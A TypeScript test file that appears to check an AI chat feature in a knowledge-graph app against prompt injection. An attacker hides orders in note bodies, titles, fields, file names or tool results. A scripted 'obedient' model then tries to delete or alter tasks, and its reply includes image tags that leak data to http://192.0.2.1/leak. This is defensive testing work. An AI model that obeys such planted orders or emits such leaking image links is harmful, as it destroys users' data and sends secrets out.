import { afterAll, beforeAll, describe, expect, test, vi } from "vitest";
import { Conversations } from "../../src/chat/conversations.ts";
import { offerModel } from "../../src/chat/models/model-choice.ts";
import type { TurnEvent } from "../../src/chat/turn-event.ts";
import type { NewEntity } from "../../src/graph/model/entity.ts";
import { chooseModel } from "../support/choose-model.ts";
import { injectionOrders } from "../support/injection-attacks.ts";
import { callTool, type ScriptAction, say } from "../support/model-script.ts";
import { type Demo, NOW, openDemo } from "../support/open-demo.ts";
import { type ScriptedModelServer, startScriptedModelServer } from "../support/scripted-model-server.ts";

const ASKER = "maren@rillmark.example";
const ATTACKER = "priya@rillmark.example";
const VICTIM = "Re-cut the lid tool for the Lindqvist hinge";
/** Stand for the entity that carries the order, and for the project of the victim. */
const CARRIER = "{carrier}";
const PROJECT = "{project}";
const FACTOR = Number(process.env.SKEIN_TEST_FACTOR ?? 1);

/** The calls of an obedient model that follows an order. */
const EFFECTS: readonly { readonly wish: string; readonly name: string; readonly input: object }[] = [
	{ wish: "delete the lid task", name: "delete_entity", input: { entity_id: VICTIM } },
	{ wish: "close the lid task", name: "upsert_entity", input: { entity_id: VICTIM, state_key: "done" } },
	{
		wish: "link the lid task to this",
		name: "link_entities",
		input: { src_id: VICTIM, rel: "relates_to", dst_id: CARRIER },
	},
	{ wish: "write a note", name: "create_note", input: { title: "Owned", body: "By whoever wrote that." } },
	{
		wish: "make a task",
		name: "upsert_entity",
		input: { kind: "task", title: "Owned", project_id: PROJECT },
	},
];

/**
 * The places where an order can hide. A file name is in a field, as an import keeps it; a tool shows text that no
 * context did.
 */
const CARRIERS = ["body", "title", "field", "file name", "tool result"] as const;

let demo: Demo;
let provider: ScriptedModelServer;
let conversations: Conversations;

beforeAll(async () => {
	demo = await openDemo();
	provider = await startScriptedModelServer();
	const environment = { ANTHROPIC_API_KEY: "secret", ANTHROPIC_BASE_URL: provider.url };
	const model = chooseModel({ environment, patience: { retries: 0 } });
	conversations = new Conversations({ graph: demo.skein.graph, models: offerModel(model) });
});
afterAll(async () => {
	await conversations?.stopAll();
	await provider?.close();
	await demo?.close();
});

function carry(order: string, carrier: (typeof CARRIERS)[number], number: number): NewEntity {
	const title = carrier === "title" ? `Carrier ${number} ${order}`.slice(0, 400) : `Carrier ${number}`;
	return {
		kind: "note",
		title,
		body: carrier === "body" || carrier === "tool result" ? `Minutes.\n\n${order}\n` : "Minutes.",
		props: {
			...(carrier === "field" && { remark: order }),
			...(carrier === "file name" && { source_path: `${order.slice(0, 200)}.md` }),
		},
	};
}

/** Obeys every order in any text it reads: the worst model there could be. */
function obey(effect: (typeof EFFECTS)[number], carrier: string, project: string, looks: boolean): void {
	const input = JSON.parse(
		JSON.stringify(effect.input).replace(CARRIER, carrier).replace(PROJECT, project),
	) as object;
	const replies: (readonly ScriptAction[])[] = [
		...(looks ? [[callTool({ id: "look", name: "get_entity_details", input: { entity_id: carrier } })]] : []),
		[callTool({ id: "act", name: effect.name, input })],
		say("Done. ![](http://192.0.2.1/leak?q=secret) <img src=http://192.0.2.1/leak>"),
	];
	let next = 0;
	provider.answerWith(() => replies[next++] ?? say("Done."));
}

async function collect(events: AsyncIterable<TurnEvent>): Promise<TurnEvent[]> {
	const all: TurnEvent[] = [];
	for await (const event of events) all.push(event);
	return all;
}

describe("[P13] text that gives orders", () => {
	test.each(CARRIERS)(
		"in a %s makes even an obedient model do nothing unasked",
		{ timeout: 600_000 },
		async (carrier) => {
			const attacker = await demo.as(ATTACKER);
			const orders = injectionOrders();
			const cases = Math.ceil(60 * FACTOR);
			const reached = vi.spyOn(globalThis, "fetch");
			for (let number = 0; number < cases; number += 1) {
				const effect = EFFECTS[number % EFFECTS.length] as (typeof EFFECTS)[number];
				const order = (orders[number % orders.length] ?? "").replaceAll("{effect}", effect.wish);
				const note = await attacker.writer.create(carry(order, carrier, number), "http");
				const session = await demo.as(ASKER);
				const { revision } = session.reader.access;
				const chat = await session.chats.create("Attack");
				const looks = carrier === "tool result";
				obey(effect, note.ref, session.reader.graph.find(VICTIM)?.project_id ?? "", looks);
				const focus = looks ? undefined : { id: note.id };
				const request = { query: "What do the minutes say?", type: "chat", now: NOW, focus } as const;
				const run = await conversations.send({ session, chatId: chat.id, request });
				const events = await collect(run.follow());

				const end = events.at(-1);
				expect(end).toMatchObject({ type: "end", state: "answered", tainted: true, actions: [] });
				const approvals = events.filter(({ type }) => type === "approval");
				expect(approvals.length, `${carrier}: ${order}`).toBe(1);
				expect((await demo.as(ASKER)).reader.access.revision).toBe(revision);
			}
			const hosts = new Set(reached.mock.calls.map(([target]) => new URL(String(target)).host));
			reached.mockRestore();
			expect([...hosts]).toEqual([new URL(provider.url).host]);
		},
	);
});
